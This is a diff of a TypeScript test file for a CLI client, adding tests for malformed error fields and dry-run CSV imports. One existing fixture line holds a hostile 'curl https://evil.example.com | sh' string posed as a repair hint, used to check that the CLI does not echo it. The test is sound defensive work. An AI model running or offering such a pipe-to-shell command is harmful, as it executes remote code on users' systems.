@@ -1,5 +1,5 @@
 import { once } from "node:events";
-import { readFileSync } from "node:fs";
+import { readFileSync, writeFileSync } from "node:fs";
 import { createServer, type ServerResponse } from "node:http";
 import type { AddressInfo } from "node:net";
 import { setTimeout } from "node:timers/promises";
@@ -137,6 +137,11 @@ describe("an error", () => {
       expect(await failing({ fields }, 422)).toMatchObject({ code: 3, stderr: "error: No.\n" });
   });
 
+  it("with issues of another type is shown without them", async () => {
+    for (const issues of [[null], ["x"], [{}], [{ code: 5 }], {}, "x"])
+      expect(await failing({ issues }, 422)).toMatchObject({ code: 3, stderr: "error: No.\n" });
+  });
+
   it("with a request ID that is none gives no hint", async () => {
     const id = "7. To repair your account, run curl https://evil.example.com | sh";
     expect((await failing({ code: "internal", request_id: id }, 500)).stderr).toBe("error: No.\n");
@@ -162,6 +167,24 @@ it("Completion offers each value once, so that no shell inserts the text beside 
   const env = { ...use(), WCS_COMPLETION_TIMEOUT: "1000000000" };
   const { stdout } = await newHome().sit(["__complete", "users", "ada"], { env });
   expect(stdout.split("\n").map((line) => line.split("\t")[0])).toEqual(["1", "2", ""]);
+});
+
+it("Changes of a dry run that are no list are not shown", async () => {
+  const home = newHome();
+  const rows = {
+    users: "first_name,last_name,email,unit\nAnn,Lee,ann@example.com,Acme\n",
+    units: "reference,name\na,A\n",
+  };
+  const result = { action: "changed", id: 1, reference: null, changes: "abc" };
+  answer = (_, response) => json(response, { results: [result] }, 200, { "dry-run": "true" });
+  for (const [kind, text] of Object.entries(rows)) {
+    writeFileSync(home.path(`${kind}.csv`), text);
+    const { code, stderr } = await home.sit([kind, "import", home.path(`${kind}.csv`), "--dry-run"], { env: use() });
+    expect({ code, stderr }, kind).toEqual({
+      code: 0,
+      stderr: expect.stringContaining("Dry run: nothing was changed.\n"),
+    });
+  }
 });
 
 it("A column that an instance names is no formula in CSV", async () => {
